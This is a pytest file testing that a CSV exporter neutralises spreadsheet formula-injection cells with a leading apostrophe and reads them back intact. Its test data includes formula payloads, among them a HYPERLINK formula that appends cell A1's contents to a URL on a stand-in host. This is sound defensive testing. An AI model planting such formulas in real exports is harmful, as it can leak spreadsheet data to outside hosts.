import csv
import itertools
from dataclasses import replace

import pytest

from app.domain.export import export_corpus, read_csv_cell
from app.domain.export.csvfile import COLUMNS, neutralise_cell, read_csv

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "+1",
    "-1956年",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    "\x00=1",
    "'=x",
    "''",
    '含"引号",逗号\r\n和换行',
    "普通文本",
    "",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_is_reversible(value):
    cell = neutralise_cell(value)
    assert read_csv_cell(cell) == value
    if value[:1] in ("=", "+", "-", "@", "\t", "\r", "\x00", "'"):
        assert cell.startswith("'")
    else:
        assert cell == value


def test_sample_reads_back_field_identical(sample_corpus, tmp_path):
    out = tmp_path / "x.csv"
    report = export_corpus(sample_corpus, "csv", out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = read_csv(out)
    assert len(rows) == 17 == report.records
    for row, e in zip(rows, sample_corpus.entries, strict=True):
        assert row["id"] == e.id and row["seq"] == e.seq and row["source_line"] == e.line
        assert row["title"] == e.title and row["body"] == e.body
        assert row["authors"].split("\n") == [p.name for p in e.authors]
        assert row["source_file"] == "000_87c299a4ca3d8bb6.txt"
    photo_rows = [r for r in rows if r["photos"]]
    assert sum(len(r["photos"].split("\n")) for r in photo_rows) == 6
    assert "张鸿祥" in photo_rows[0]["photographers"]


def test_hostile_cells_are_neutralised_and_read_back(builders, sample_corpus, tmp_path):
    values = itertools.cycle(HOSTILE)

    def hostile(e):
        return replace(e, title=next(values), body=next(values), tags=(next(values),))

    edited = builders.entries(sample_corpus, hostile)
    edited = builders.photos(edited, lambda p: replace(p, caption='=HYPERLINK("x")<b>粗</b>'))
    out = tmp_path / "x.csv"
    export_corpus(edited, "csv", out)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        raw_rows = list(csv.reader(fh))
    assert tuple(raw_rows[0]) == COLUMNS
    for raw in raw_rows[1:]:
        for col, cell in zip(COLUMNS, raw, strict=True):
            if col in ("id", "seq", "source_line"):
                assert cell.isdigit()
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00"))
    rows = read_csv(out)
    for row, e in zip(rows, edited.entries, strict=True):
        assert (row["title"], row["body"], row["tags"]) == (e.title, e.body, e.tags[0])
    assert '"\'=HYPERLINK(""http://x.invalid/?""&A1,""点我"")"' in out.read_text(
        encoding="utf-8-sig"
    )
